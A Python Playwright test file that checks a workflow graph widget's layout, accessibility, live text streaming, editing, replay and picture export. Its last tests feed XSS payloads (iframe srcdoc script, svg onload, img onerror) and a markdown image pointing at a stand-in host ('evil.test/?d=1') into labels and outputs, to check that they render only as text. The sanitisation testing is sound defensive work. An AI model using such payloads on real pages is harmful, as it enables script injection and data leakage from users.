"""The graph in Chromium: looks, live text, editing by mouse and keyboard, replay, export, hostile text."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from .scenes import PROMPT, Story, demo_workflow, payload_of, scenes
from .workflows import random_workflow, workflow_from

pytestmark = pytest.mark.browser
See = Callable[..., Page]


def show(page: Page, payload: dict[str, Any]) -> None:
    """Gives the mounted graph new data, as a script run of the page would."""
    page.evaluate("(payload) => { window.payload = payload; window.graph.update(payload); }", payload)


def heard(page: Page, name: str) -> list[Any]:
    return page.evaluate("(name) => window.heard.filter((each) => each.name === name).map((each) => each.value)", name)


def edits(page: Page) -> list[dict[str, Any]]:
    return [edit for each in heard(page, "edit") for edit in each["edits"]]


@pytest.mark.parametrize("asked", [{}, {"dark": "1"}, {"shadow": "1"}])
@pytest.mark.parametrize("width", [1320, 700, 390])
def test_every_scene_fits_its_page(see: See, width: int, asked: dict[str, str]) -> None:
    page = see("empty", width=width, **asked)
    for name, payload in scenes().items():
        show(page, payload)
        page.wait_for_timeout(60)
        spilled = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert spilled <= 0, f"{name} is {spilled} px wider than the page"
        inside = page.evaluate(
            """() => { const stage = root.querySelector('.stage').getBoundingClientRect();
               return [...root.querySelectorAll('.card, .pill')].filter((each) => each.checkVisibility()).every((each) => {
                 const box = each.getBoundingClientRect();
                 return box.left >= stage.left - 1 && box.right <= stage.right + 1 && box.top >= stage.top - 1 && box.bottom <= stage.bottom + 1; }); }"""
        )
        assert inside, f"{name}: a card lies outside the drawing at {width} px"


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_every_text_has_enough_contrast(see: See, theme: str) -> None:
    page = see("empty", **({"dark": "1"} if theme == "dark" else {}))
    for name in ("planning", "noplan", "running", "done", "failed", "reused", "cancelled", "edit", "replay"):
        show(page, scenes()[name])
        page.wait_for_timeout(250)
        weak = page.evaluate((Path(__file__).parent / "contrast.js").read_text(encoding="utf-8"))
        assert not weak, f"{name}: {weak}"


def test_status_is_never_colour_alone(see: See) -> None:
    page = see("failed")
    told = page.locator(".box").evaluate_all(
        "(boxes) => boxes.map((box) => [box.dataset.status, box.querySelector('.word').textContent, box.querySelector('.status path').getAttribute('d')])"
    )
    by_status = {status: (word, icon) for status, word, icon in told}
    assert len(by_status) == len(set(by_status.values())) == 3
    assert page.locator("[data-box=s2] .card").evaluate("(card) => getComputedStyle(card).borderTopStyle") == "dashed"


def test_cards_say_what_a_screen_reader_needs(see: See) -> None:
    page = see("failed")
    expect(page.get_by_role("button", name="Step 5, qwen-1.5b, Skipped, sees steps 1 and 3")).to_be_visible()
    expect(page.get_by_role("button", name="Step 4, smollm2-135m, Done, sees only the prompt, unused by the answer")).to_be_visible()
    expect(page.get_by_role("toolbar", name="Graph tools")).to_be_visible()
    unnamed = page.evaluate(
        "[...root.querySelectorAll('button, input')].filter((each) => each.checkVisibility() && !(each.getAttribute('aria-label') || each.textContent.trim())).length"
    )
    assert unnamed == 0


def test_failed_skipped_retried_and_partial_are_told(see: See) -> None:
    page = see("failed")
    second = page.locator("[data-box=s2]")
    expect(second).to_contain_text("2 tries")
    expect(second).to_contain_text("HTTP 503: the server is overloaded")
    expect(second).to_contain_text("partial")
    expect(second).to_contain_text("212 - 67")
    expect(second).to_contain_text("tokens and cost unknown")
    expect(page.locator("[data-box=s3]")).to_contain_text("Not run: step 2 failed")
    expect(page.locator("[data-box=s5]")).to_contain_text("Not run: step 3 was skipped")


def test_reused_steps_show_their_former_time_and_cost_nothing(see: See) -> None:
    page = see("reused")
    first = page.locator("[data-box=s1]")
    expect(first).to_contain_text("2.5 s then")
    expect(first.locator(".foot")).to_have_text(re.compile(r"190 tokens then\s+·\s+\$0"))
    expect(page.locator(".facts")).to_contain_text("cost unknown")


def test_new_data_keeps_every_card_element(see: See) -> None:
    page = see("running")
    page.evaluate("window.before = [...root.querySelectorAll('.card')]")
    for _ in range(30):
        page.evaluate("graph.update({ ...payload, rev: payload.rev + 1 })")
    show(page, {**payload_of(Story(run_id="run_live").begin()), "api": None})
    show(page, scenes()["running"])
    page.evaluate("graph.update({ ...payload, rev: 77 })")
    assert page.evaluate("before.length === 5 && before.every((card) => card.isConnected && card === root.querySelector(`[data-step=${card.dataset.step}]`))")


def test_the_same_run_is_drawn_the_same(see: See) -> None:
    shapes = []
    for _ in range(2):
        page = see("done")
        page.wait_for_timeout(400)
        shapes.append(page.locator(".stage").evaluate("(stage) => stage.querySelector('.layer').innerHTML"))
    assert shapes[0] == shapes[1]


def test_pointing_at_a_step_fades_what_was_withheld_from_it(see: See) -> None:
    page = see("done")
    page.hover("[data-box=s5]")
    expect(page.locator("[data-box=s2]")).to_have_class(re.compile("withheld"))
    expect(page.locator("[data-box=s2]")).to_have_attribute("data-withheld", "Withheld")
    expect(page.locator("[data-box=s3]")).to_have_class(re.compile("seen"))
    assert page.locator(".edge.lit").count() == 2
    page.mouse.move(2, 2)
    expect(page.locator(".box.withheld")).to_have_count(0)


def test_selecting_tells_the_page_and_survives_a_slow_answer(see: See) -> None:
    page = see("done")
    page.click("[data-step=s3]")
    page.click("[data-step=s5]")
    page.evaluate("graph.update({ ...payload, selected: 's3' })")
    expect(page.locator("[data-box=s5]")).to_have_class(re.compile("selected"))
    page.evaluate("graph.update({ ...payload, selected: 's5' })")
    page.click("[data-step=s5]")
    assert heard(page, "selected") == ["s3", "s5", None]


def test_zoom_and_pan_stay_over_updates_and_a_remount(see: See) -> None:
    page = see("done")
    page.get_by_label("Zoom in").click()
    stage = page.locator(".stage").bounding_box()
    page.mouse.move(stage["x"] + 40, stage["y"] + 40)
    page.mouse.down()
    page.mouse.move(stage["x"] + 140, stage["y"] + 90, steps=4)
    page.mouse.up()
    view = page.locator(".layer").evaluate("(layer) => layer.style.transform")
    page.evaluate("graph.update({ ...payload, rev: 5 })")
    page.evaluate("async () => { graph.destroy(); const { mount } = await import('/flow-assets/main.js'); window.graph = mount(root, { payload }); }")
    page.wait_for_selector(".wfg.styled")
    assert page.locator(".layer").evaluate("(layer) => layer.style.transform") == view
    page.get_by_label("Fit the drawing").click()
    assert page.locator(".layer").evaluate("(layer) => layer.style.transform") != view


def test_the_wheel_scrolls_the_page_and_zooms_only_with_ctrl(see: See) -> None:
    page = see("done", height=420)
    page.hover("[data-box=s1]")
    scale = page.locator(".layer").evaluate("(layer) => layer.style.transform")
    page.mouse.wheel(0, 120)
    page.wait_for_function("window.scrollY > 0")
    assert page.locator(".layer").evaluate("(layer) => layer.style.transform") == scale
    page.keyboard.down("Control")
    page.mouse.wheel(0, -200)
    page.keyboard.up("Control")
    assert page.locator(".layer").evaluate("(layer) => layer.style.transform") != scale


def test_a_render_that_was_overtaken_does_not_take_the_graph_away(see: See) -> None:
    page = see("done", shadow="1")
    page.evaluate(
        """async () => {
          const { default: render } = await import('/flow-assets/main.js');
          graph.destroy();
          const call = (data) => render({ data, parentElement: root, setStateValue() {}, setTriggerValue() {} });
          const first = call(payload); window.second = call({ ...payload, rev: 1 }); first();
          await new Promise((done) => setTimeout(done, 50)); }"""
    )
    assert page.evaluate("root.querySelectorAll('.card').length") == 5
    page.evaluate("async () => { root.host.remove(); second(); await new Promise((done) => setTimeout(done, 50)); }")
    assert page.evaluate("root.querySelectorAll('.card').length") == 0


# live


def final_texts(page: Page) -> list[str]:
    return page.locator(".box .text").all_text_contents()


def test_two_views_and_a_late_one_show_the_same_whole_text(see: See, browser: Any, harness: str) -> None:
    page = see("live-4", seconds="3")
    payload = page.evaluate("payload")
    second = see("empty")
    show(second, payload)
    page.wait_for_timeout(1500)
    late = see("empty")
    show(late, payload)
    for each in (page, second, late):
        expect(each.locator(".run")).to_contain_text("Done", timeout=15_000)
    assert final_texts(page) == final_texts(second) == final_texts(late)
    assert "😀" in final_texts(page)[0]
    assert heard(page, "finished") == [{"run_id": payload["run_id"], "seq": 15}]


def test_ten_seconds_without_a_line_lose_nothing(see: See, harness: str) -> None:
    page = see("live-3", seconds="12")
    run_id = page.evaluate("payload.run_id")
    page.wait_for_selector("[data-kind=live]")
    assert httpx.post(f"{harness}/live/{run_id}/cut?seconds=10").status_code == 200
    expect(page.locator(".link")).to_have_text("Connection lost, trying again", timeout=8000)
    expect(page.locator(".link")).to_have_text("", timeout=20_000)
    expect(page.locator(".run")).to_contain_text("Done", timeout=20_000)
    texts = httpx.post(f"{harness}/live/{run_id}/texts").json()["texts"]
    shown = page.locator(".box .foot").all_text_contents()
    assert len(shown) == 3
    heads = [text[:40] for text in texts.values()]
    assert all(text.startswith(head) for text, head in zip(final_texts(page), heads, strict=True))
    assert [each["is_up"] for each in heard(page, "connection")] == [False, True]


def test_a_hidden_page_hangs_up_and_catches_up(see: See, harness: str) -> None:
    page = see("live-2", seconds="5")
    run_id = page.evaluate("payload.run_id")
    page.wait_for_selector("[data-kind=live]")
    hide = "(state) => { Object.defineProperty(document, 'visibilityState', { value: state, configurable: true }); document.dispatchEvent(new Event('visibilitychange')); }"
    page.evaluate(hide, "hidden")
    page.wait_for_timeout(1200)
    before = httpx.post(f"{harness}/live/{run_id}/texts").json()
    assert before["connections"] == 1
    page.evaluate(hide, "visible")
    expect(page.locator(".run")).to_contain_text("Done", timeout=15_000)
    assert httpx.post(f"{harness}/live/{run_id}/texts").json()["connections"] == 2


def test_clicks_while_text_streams_do_not_touch_the_stream(see: See) -> None:
    page = see("live-3", seconds="3")
    page.wait_for_selector("[data-kind=live]")
    for _ in range(6):
        for step in ("s1", "s2", "s3"):
            page.click(f"[data-step={step}]")
        page.evaluate("graph.update({ ...payload, rev: Math.random() })")
    expect(page.locator(".run")).to_contain_text("Done", timeout=15_000)
    assert len({len(text) for text in final_texts(page)}) == 1


def test_an_unknown_run_asks_the_page_to_look_again(see: See) -> None:
    page = see("empty")
    show(page, {**scenes()["running"], "api": {"ws": "/api/runs/run_gone/ws", "after": 0}})
    expect(page.locator(".link")).to_have_text("This run is no longer on the server")
    assert heard(page, "lost") == [{"run_id": "run_live"}]


def test_a_conductor_s_text_is_shown_while_it_plans(see: See) -> None:
    page = see("planning")
    page.evaluate("graph.update({ ...payload, rev: 1 })")
    expect(page.locator(".planning")).to_contain_text("Planning the workflow")
    expect(page.locator(".planning")).to_contain_text("local")


# editing


def test_dragging_from_a_card_to_a_later_one_adds_an_access(see: See) -> None:
    page = see("plan_only")
    drag(page, "s2", "s5")
    assert edits(page) == [{"op": "set_access", "step_id": "s5", "access": ["s1", "s3", "s2"]}]
    sent = heard(page, "edit")[0]
    assert sent["base"] == "wf_demo" and sent["op_id"].startswith("op_")


@pytest.mark.parametrize(("target", "reason"), [("s1", "comes before step 2"), ("s3", "already sees step 2")])
def test_a_drop_that_is_refused_says_why_and_sends_nothing(see: See, target: str, reason: str) -> None:
    page = see("plan_only")
    drag(page, "s2", target)
    expect(page.locator(".toast.shown")).to_contain_text(reason)
    assert edits(page) == []


def drag(page: Page, source: str, target: str) -> None:
    page.hover(f"[data-box={source}]")
    handle = page.locator(f"[data-handle={source}]").bounding_box()
    card = page.locator(f"[data-box={target}]").bounding_box()
    page.mouse.move(handle["x"] + handle["width"] / 2, handle["y"] + handle["height"] / 2)
    page.mouse.down()
    page.mouse.move(card["x"] + 40, card["y"] + 60, steps=8)
    page.mouse.up()


def test_a_chosen_edge_is_removed_by_its_cross_or_by_delete(see: See) -> None:
    page = see("plan_only")
    press_edge(page, "s2", "s3")
    page.get_by_label("Step 3 no longer sees step 2").click()
    assert edits(page) == [{"op": "set_access", "step_id": "s3", "access": []}]
    page = see("plan_only")
    page.locator("[data-step=s5]").focus()
    page.keyboard.press("e")
    page.keyboard.press("e")
    page.keyboard.press("Delete")
    assert edits(page) == [{"op": "set_access", "step_id": "s5", "access": ["s1"]}]


def press_edge(page: Page, seen: str, by: str) -> None:
    x, y = page.evaluate(
        """([seen, by]) => { const path = root.querySelector(`.edge[data-seen=${seen}][data-by=${by}] .line`);
           const at = path.getPointAtLength(path.getTotalLength() / 2).matrixTransform(path.getScreenCTM()); return [at.x, at.y]; }""",
        [seen, by],
    )
    page.mouse.click(x, y)


def test_the_menu_changes_worker_order_and_access(see: See) -> None:
    page = see("plan_only")

    def choose(*items: str) -> None:
        page.click("[data-menu=s4]")
        for item in items:
            page.click(f"[data-item={item}]")
        page.evaluate("graph.update({ ...payload, rev: payload.rev + Math.random() })")

    choose("worker", "worker-calculator")
    choose("earlier")
    choose("sees-s2")
    choose("remove")
    assert edits(page) == [
        {"op": "set_worker", "step_id": "s4", "worker": "calculator"},
        {"op": "move_step", "step_id": "s4", "position": 2},
        {"op": "set_access", "step_id": "s4", "access": ["s2"]},
        {"op": "remove_step", "step_id": "s4"},
    ]


def test_instruction_and_new_step_are_written_in_place(see: See) -> None:
    page = see("plan_only")
    page.locator("[data-step=s2]").focus()
    page.keyboard.press("i")
    page.locator(".panel textarea").fill("Write it anew.")
    page.evaluate("graph.update({ ...payload, rev: 3 })")
    assert page.locator(".panel textarea").input_value() == "Write it anew."
    page.keyboard.press("Control+Enter")
    page.evaluate("graph.update({ ...payload, rev: 4 })")
    page.locator("[data-step=s3]").focus()
    page.keyboard.press("a")
    page.locator(".panel textarea").fill("Check it.")
    page.locator(".panel select").select_option("python")
    page.locator(".panel input[value=s1]").check()
    page.get_by_role("button", name="Add step").click()
    assert edits(page) == [
        {"op": "set_instruction", "step_id": "s2", "instruction": "Write it anew."},
        {"op": "add_step", "instruction": "Check it.", "worker": "python", "access": ["s1", "s3"], "position": 3},
    ]


def test_everything_works_by_keyboard_alone(see: See) -> None:
    page = see("plan_only")
    page.locator(".stage [tabindex='0']").focus()
    assert page.evaluate("document.activeElement.dataset.step") == "s1"
    page.keyboard.press("ArrowRight")
    assert page.evaluate("document.activeElement.dataset.step") == "s2"
    page.keyboard.press("Enter")
    page.keyboard.press("l")
    page.keyboard.press("End")
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowRight")
    page.keyboard.press("Enter")
    assert heard(page, "selected") == ["s2"]
    assert edits(page) == [{"op": "set_access", "step_id": "s5", "access": ["s1", "s3", "s2"]}]
    page.evaluate("graph.update({ ...payload, rev: 9, can_undo: true })")
    page.keyboard.press("Control+z")
    assert len(heard(page, "undo")) == 1
    page.keyboard.press("m")
    expect(page.get_by_role("menu")).to_be_visible()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Escape")
    expect(page.get_by_role("menu")).to_have_count(0)
    assert page.evaluate("document.activeElement.dataset.step") == "s5"


def test_edits_wait_for_their_answer_and_a_refusal_is_said(see: See) -> None:
    page = see("plan_only")
    page.locator("[data-step=s5]").focus()
    page.keyboard.press("[")
    page.keyboard.press("[")
    first = heard(page, "edit")
    assert len(first) == 1, "the second edit waits for the first one's answer"
    page.evaluate("(reply) => graph.update({ ...payload, reply })", {"op_id": first[0]["op_id"], "ok": False, "message": "Step 5 sees step 3.", "hint": "Remove that first."})
    expect(page.locator(".toast.shown")).to_have_text("Step 5 sees step 3. Remove that first.")


def test_a_read_only_graph_offers_no_edit(see: See) -> None:
    page = see("done")
    assert page.locator(".more:visible, .handle:visible, [data-tool=add]:visible").count() == 0
    page.locator("[data-step=s5]").focus()
    for key in ("l", "Delete", "i", "a", "m", "[", "w"):
        page.keyboard.press(key)
    assert edits(page) == [] and page.locator(".panel").count() == 0


def test_a_narrow_page_edits_by_menu(see: See) -> None:
    page = see("plan_only", width=390, height=844)
    page.click("[data-menu=s5]")
    expect(page.locator(".panel.sheet")).to_be_visible()
    page.click("[data-item=sees-s2]")
    assert edits(page) == [{"op": "set_access", "step_id": "s5", "access": ["s1", "s3", "s2"]}]
    small = page.evaluate("[...root.querySelectorAll('.tool:not([hidden]), .more')].filter((each) => each.checkVisibility() && Math.min(each.offsetWidth, each.offsetHeight) < 40).length")
    assert small == 0, "touch targets"


# replay, export, odd runs


def test_a_replay_plays_without_a_call_and_can_be_steered(see: See) -> None:
    page = see("replay")
    calls: list[str] = []
    page.on("request", lambda request: calls.append(request.url))
    page.on("websocket", lambda line: calls.append(line.url))
    expect(page.locator(".replay-mark")).to_have_text("Replay")
    page.locator(".seek").evaluate("(bar) => { bar.value = bar.max / 2; bar.dispatchEvent(new Event('input')); }")
    page.get_by_role("button", name="Pause").click()
    expect(page.locator(".run")).to_contain_text("Running")
    page.get_by_role("button", name="Speed 5").click()
    page.get_by_role("button", name="Play").click()
    expect(page.locator(".run")).to_contain_text("Done", timeout=8000)
    page.locator("[data-step=s1]").focus()
    page.keyboard.press(",")
    expect(page.locator(".run")).to_contain_text("Running")
    assert calls == []
    assert len(heard(page, "finished")) == 1


def test_presenting_shows_the_prompt_and_hides_its_controls(see: See) -> None:
    page = see("present", width=1600, height=900, bare="1")
    expect(page.locator(".ask")).to_have_text(PROMPT)
    expect(page.locator(".tools")).to_be_hidden()
    expect(page.locator(".wfg")).to_have_class(re.compile("quiet"), timeout=6000)
    assert page.locator(".player").evaluate("(bar) => new Promise((done) => setTimeout(() => done(getComputedStyle(bar).opacity), 400))") == "0"
    page.keyboard.press(" ")
    expect(page.get_by_role("button", name="Play")).to_be_attached()
    page.mouse.move(200, 200)
    page.mouse.move(300, 300)
    expect(page.locator(".wfg")).not_to_have_class(re.compile("quiet"))
    assert page.locator(".card").first.evaluate("(card) => card.getBoundingClientRect().width") > 300


@pytest.mark.parametrize(("choice", "start"), [("SVG, dark", b"<svg"), ("PNG, light", b"\x89PNG")])
def test_the_drawing_is_saved_as_a_picture(see: See, choice: str, start: bytes, tmp_path: Path) -> None:
    page = see("done")
    page.get_by_label("Save as picture").click()
    with page.expect_download() as waited:
        page.get_by_role("menuitem", name=choice).click()
    saved = tmp_path / "picture"
    waited.value.save_as(saved)
    data = saved.read_bytes()
    assert data.startswith(start) and waited.value.suggested_filename.startswith("workflow-run_demo.")
    if start.startswith(b"\x89"):
        layout_width = page.evaluate("Number(root.querySelector('.edges').getAttribute('width'))")
        assert int.from_bytes(data[16:20], "big") == 2 * (layout_width + 64)


HOSTILE = ["![x](http://evil.test/?d=1)", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<svg onload=alert(1)>", "<img src=x onerror=alert(1)>"]
LABELS = ["solve[1]", "a]b", "end", "graph", "default", "B，test", 'x"y', "<img src=x onerror=alert(1)>", "😀🧪", "constructor", "__proto__"]


def test_labels_and_outputs_are_shown_as_text_and_nothing_else(see: See) -> None:
    page = see("empty")
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.on("dialog", lambda dialog: seen.append(dialog.message))
    flow = workflow_from([[at - 1] if at else [] for at in range(len(LABELS))])
    steps = [step.model_copy(update={"worker": LABELS[at], "instruction": HOSTILE[at % 4]}) for at, step in enumerate(flow.steps)]
    story = Story(flow.model_copy(update={"steps": tuple(steps)}), "run_odd").begin(is_planned=False)
    for at, step in enumerate(steps):
        story.start(step.step_id).finish(step.step_id, output=HOSTILE[at % 4])
    show(page, {**payload_of(story), "api": None})
    assert page.locator(".worker").all_text_contents() == LABELS
    assert page.locator(".instruction").all_text_contents() == [HOSTILE[at % 4] for at in range(len(LABELS))]
    assert page.locator(".box .text").all_text_contents() == [HOSTILE[at % 4] for at in range(len(LABELS))]
    page.wait_for_timeout(200)
    assert seen == []
    assert page.evaluate("root.querySelectorAll('img, iframe, script').length") == 0


def test_twenty_megabytes_of_output_leave_the_page_usable(see: See) -> None:
    page = see("running")
    story = demo_story_with_big_output()
    start = page.evaluate("performance.now()")
    show(page, {**payload_of(story), "api": None})
    expect(page.locator("[data-box=s2] .text")).to_contain_text("word 漢😀")
    page.click("[data-step=s2]")
    assert page.evaluate("performance.now()") - start < 1500
    assert page.evaluate("root.querySelector('[data-box=s2] .text').textContent.length") < 1000


def demo_story_with_big_output() -> Story:
    story = Story(run_id="run_big").begin().planned().start("s1").finish("s1")
    return story.start("s2").finish("s2", output="word 漢😀 " * 2_500_000)


def test_sixty_steps_are_drawn_and_reached(see: See) -> None:
    page = see("empty")
    story = Story(random_workflow(3, steps=60, density=0.06), "run_60").begin(is_planned=False)
    start = page.evaluate("performance.now()")
    show(page, {**payload_of(story), "api": None})
    assert page.locator(".card").count() == 60
    assert page.evaluate("performance.now()") - start < 1500
    page.locator(".stage [tabindex='0']").focus()
    page.keyboard.press("End")
    expect(page.locator("[data-step=s60]")).to_be_in_viewport()


def test_the_workflow_of_the_demo_is_the_one_shown(see: See) -> None:
    page = see("done")
    assert page.locator(".worker").all_text_contents() == [step.worker for step in demo_workflow().steps]
